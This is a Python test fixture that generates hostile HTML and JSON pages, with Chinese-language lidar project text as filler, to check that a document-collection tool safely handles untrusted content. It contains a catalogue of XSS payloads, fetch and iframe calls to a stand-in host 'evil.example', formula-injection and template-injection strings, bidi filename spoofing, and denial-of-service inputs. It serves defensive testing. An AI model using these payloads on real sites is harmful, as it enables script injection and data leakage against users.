"""Hostile pages as a source could publish them, and a workspace whose evidence holds them."""

from __future__ import annotations

import json
from pathlib import Path

from attache.build.builder import build
from attache.collect.evidence import Evidence
from attache.collect.files import collect_files
from attache.collect.sources import load_source
from attache.core.workspace import Workspace

__all__ = ["ELSEWHERE", "HOSTILE", "WORDS", "hostile_space"]

ELSEWHERE = "http://evil.example"
"""Where a request would go that must not be made."""
WORDS = "驻德国使馆科技处推荐固态激光雷达项目，寻求在华合资生产"
"""What every page says besides, so that it is read as a posting with evidence."""
_MARKS = "document.title='pwned';window.pwned=1;fetch('http://evil.example/s')"
HOSTILE = {
    "script": f"<script>{_MARKS}</script><script src={ELSEWHERE}/x.js></script>",
    "svg": f"<svg onload=\"{_MARKS}\"><script>{_MARKS}</script><a xlink:href='javascript:{_MARKS}'><text>x</text></a>"
    f"<image href='{ELSEWHERE}/i.png'/><foreignObject><iframe src='{ELSEWHERE}/f'></iframe></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror=\"{_MARKS}\"></style></mglyph></table></mtext></math>",
    "css": f"<style>@import '{ELSEWHERE}/c.css'; body{{background:url({ELSEWHERE}/b.png)}} "
    f"* {{ display: none !important }}</style><p style=\"background:url({ELSEWHERE}/p.png);position:fixed;inset:0\">x</p>"
    f"<link rel=stylesheet href={ELSEWHERE}/l.css><link rel=prefetch href={ELSEWHERE}/l2>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/r'><base href='{ELSEWHERE}/'>",
    "links": f"<a href=\"javascript:{_MARKS}\">go</a><a href='data:text/html,<script>{_MARKS}</script>'>data</a>"
    f"<a href='{ELSEWHERE}/a' ping='{ELSEWHERE}/p' target=_top>out</a><a href=' java\nscript:alert(1)'>split</a>",
    "handlers": f"<img src=x onerror=\"{_MARKS}\"><body onload=\"{_MARKS}\"><details open ontoggle=\"{_MARKS}\">x</details>"
    f"<input autofocus onfocus=\"{_MARKS}\"><video src={ELSEWHERE}/v autoplay></video><audio src={ELSEWHERE}/a></audio>",
    "frames": f"<iframe src='{ELSEWHERE}/f' srcdoc='<script>parent.pwned=1</script>'></iframe><object data={ELSEWHERE}/o>"
    f"</object><embed src={ELSEWHERE}/e><frameset><frame src={ELSEWHERE}/fr></frameset><portal src={ELSEWHERE}/po></portal>",
    "forms": f"<form action='{ELSEWHERE}/f' method=post><input name=csrf value=x><button formaction='{ELSEWHERE}/b'>go"
    "</button></form><textarea></textarea><isindex>",
    "escapes": "&lt;script&gt;alert(1)&lt;/script&gt; \"><script>alert(1)</script> '><b> {{ 7*7 }} {% raw %} ${7*7} <%= 1 %>",
    "comments": f"<!--><script>{_MARKS}</script>--><![CDATA[<script>{_MARKS}</script>]]><noscript><p title=\"</noscript>"
    f"<img src=x onerror={_MARKS}>\"></noscript><template><script>{_MARKS}</script></template><plaintext><script>x</script>",
    "bidi": "\u202egnp.exe\u202c \u2066\u2067unclosed \u200f\u200e <b>\u202eevil\u2069</b> user\u202e\u2066",
    "nulls": f"a\x00b <scr\x00ipt>{_MARKS}</scr\x00ipt> <p\x00 onclick=1>x</p> \ufffe\uffff \ud83d\ude00",
    "nesting": "<div>" * 60_000 + "<b>" * 3_000 + "<p>deep</p>",
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">many</p>",
    "long": "激光雷达与合资生产。" * 20_000,
    "formulas": "=HYPERLINK(\"http://evil.example\",\"x\") +1 @SUM(1) -2 \t=1",
}  # fmt: skip
"""Pages by what they try."""

_DECLARATION = """id: hostile
name: hostile pages for tests
owner: tests
adapter: files
synthetic: true
settings: {path: hostile}
"""


def page_of(name: str) -> bytes:
    """Return the HTML of a hostile page: something to read, and what it tries, in its title too."""
    what = HOSTILE[name]
    short = what if len(what) < 300 else ""
    text = (
        f"<html><head><title>{name} 激光雷达 {short}</title></head><body><h1>{name} 激光雷达项目</h1>"
        f"<p>{WORDS}。{name}。</p>{what}<p>联系德国Hostilex{name} GmbH，融资300万欧元。</p></body></html>"
    )
    return text.encode("utf-8", "surrogatepass")


def hostile_space(folder: Path) -> Workspace:
    """Make and build a workspace of all hostile pages, as HTML files and as JSON with HTML inside."""
    space = Workspace.create(folder)
    (folder / "attache.toml").write_text("jobs = 1\n", encoding="utf-8")
    (space.sources / "hostile.yaml").write_text(_DECLARATION, encoding="utf-8")
    pages = space.sources / "hostile"
    pages.mkdir()
    for name in HOSTILE:
        (pages / f"{name}.html").write_bytes(page_of(name))
        inside = page_of(name).decode("utf-8", "replace")
        answer = {"ProjectTitle": f"{name} 项目 {HOSTILE[name][:200]}", "ProjectContent": inside}
        (pages / f"{name}.json").write_text(json.dumps(answer, ensure_ascii=False), encoding="utf-8", errors="replace")
    space = Workspace.open(folder)
    source = load_source(space.sources / "hostile.yaml")
    collect_files(source, Evidence(space.evidence), folder=space.sources, clock=lambda: "2020-01-01T00:00:00Z")
    build(space)
    return space
